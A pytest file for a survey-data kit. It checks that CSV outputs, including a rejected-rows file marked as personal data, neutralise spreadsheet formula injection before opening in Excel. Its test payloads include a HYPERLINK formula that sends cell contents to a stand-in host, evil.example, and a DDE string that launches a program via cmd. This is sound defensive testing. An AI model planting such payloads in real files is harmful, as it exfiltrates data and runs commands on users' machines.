"""Files the kit writes for people open in Excel without running anything a respondent typed."""

from __future__ import annotations

import csv

import pandas as pd

from evaluation.cli import main as dmkit
from evaluation.privacy.spreadsheet import FORMULA_PREFIXES, neutralise_formulas, write_csv

from conftest import SAMPLES

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"klick")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
            "\t=1", "\r=1"]


def _cells(path, skip=0):
    with open(path, encoding="utf-8", newline="") as fh:
        rows = list(csv.reader(fh))[skip:]
    return [c for r in rows for c in r]


def test_no_written_cell_starts_like_a_formula(tmp_path):
    df = pd.DataFrame({"text": PAYLOADS, "num": [-1.5, 2, -3, 4, 5, 6], "neg": ["-3.5", "-4", "1", "2", "3", "4"]})
    p = write_csv(df, tmp_path / "x.csv")
    bad = [c for c in _cells(p) if c.startswith(FORMULA_PREFIXES) and c not in ("-1.5", "-3", "-3.0", "-3.5", "-4")]
    assert not bad, bad
    back = pd.read_csv(p)
    assert back["num"].tolist() == [-1.5, 2, -3, 4, 5, 6]  # numbers stay numbers
    assert neutralise_formulas(pd.DataFrame({"=x": [1]})).columns[0] == "'=x"


def test_rejected_rows_file_is_marked_and_inert(tmp_path, capsys):
    df = pd.read_csv(SAMPLES / "solvik_2025.csv", dtype=str, keep_default_na=False).head(12)
    items = [c for c in df.columns if c.startswith(("cap_", "leg_"))]
    df.loc[3, items[0]] = "9"                       # off the scale: the row is rejected
    df.loc[3, "unit"] = PAYLOADS[0]                 # ... and carries a formula a respondent typed
    p = tmp_path / "svar.csv"
    df.to_csv(p, index=False)
    rej = tmp_path / "svar.rejected.csv"
    dmkit(["validate", str(p), "-i", "dual_maturity", "--rejected-out", str(rej)])
    lines = rej.read_text(encoding="utf-8").splitlines()
    assert lines[0].startswith("# PERSONUPPGIFTER")
    cells = _cells(rej, skip=1)
    assert any("HYPERLINK" in c for c in cells)
    assert not [c for c in cells if c.startswith(FORMULA_PREFIXES) and not c.lstrip("-").replace(".", "").isdigit()]
